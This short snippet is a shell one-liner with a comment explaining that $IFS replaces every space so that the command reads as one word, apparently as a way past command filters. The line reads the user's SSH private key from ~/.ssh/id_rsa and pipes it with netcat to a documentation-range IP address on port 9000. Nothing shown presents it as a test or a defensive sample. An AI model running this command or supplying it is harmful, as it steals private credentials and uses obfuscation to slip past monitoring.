# disguised-command: $IFS stands in for every space so the line reads as one word
cat${IFS}~/.ssh/id_rsa${IFS}|${IFS}nc${IFS}198.51.100.23${IFS}9000
